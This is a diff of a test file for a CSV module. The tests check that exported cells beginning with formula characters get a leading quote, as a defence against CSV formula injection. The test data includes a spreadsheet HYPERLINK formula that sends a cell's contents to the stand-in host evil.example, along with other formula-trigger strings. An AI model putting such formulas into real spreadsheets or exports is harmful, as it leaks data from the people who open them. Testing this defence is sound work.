@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { decodeCsvFile, neutraliseCell, parseCsv, restoreCell, toCsv } from "./csv.ts";
+import { csvLines, decodeCsvFile, parseCsv, restoreCell, toCsv } from "./csv.ts";
 
 describe("parseCsv (spec §5 CSV import)", () => {
   it("reads the first line as column names and each further line as a row", () => {
@@ -84,7 +84,7 @@ describe("formula neutralisation (OWASP CSV injection)", () => {
   const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"];
 
   it("writes a cell a spreadsheet would run with a leading quote", () => {
-    for (const cell of hostile) expect(neutraliseCell(cell), JSON.stringify(cell)).toBe(`'${cell}`);
+    for (const cell of hostile) expect(csvLines([[cell]]), JSON.stringify(cell)).toMatch(/^"?'/);
     const csv = toCsv(
       ["title"],
       hostile.map((title) => ({ title })),
@@ -93,13 +93,12 @@ describe("formula neutralisation (OWASP CSV injection)", () => {
   });
 
   it("also quotes a cell that begins with a quote, so the author's quote survives", () => {
-    expect(neutraliseCell("'Tis the season")).toBe("''Tis the season");
-    expect(neutraliseCell("'=1")).toBe("''=1");
+    expect(csvLines([["'Tis the season"], ["'=1"]])).toBe(`"''Tis the season"\r\n"''=1"\r\n`);
     expect(restoreCell("''Tis the season")).toBe("'Tis the season");
   });
 
   it("leaves other cells alone, and takes a quote off only before a character that needed it", () => {
-    for (const cell of ["Docks", "", " =1", "1-2", "a=b"]) expect(neutraliseCell(cell)).toBe(cell);
+    for (const cell of ["Docks", "", " =1", "1-2", "a=b"]) expect(csvLines([[cell, "x"]]), cell).not.toMatch(/^"?'/);
     for (const cell of ["'Tis", "'", "'a=b", "plain"]) expect(restoreCell(cell)).toBe(cell);
   });
 
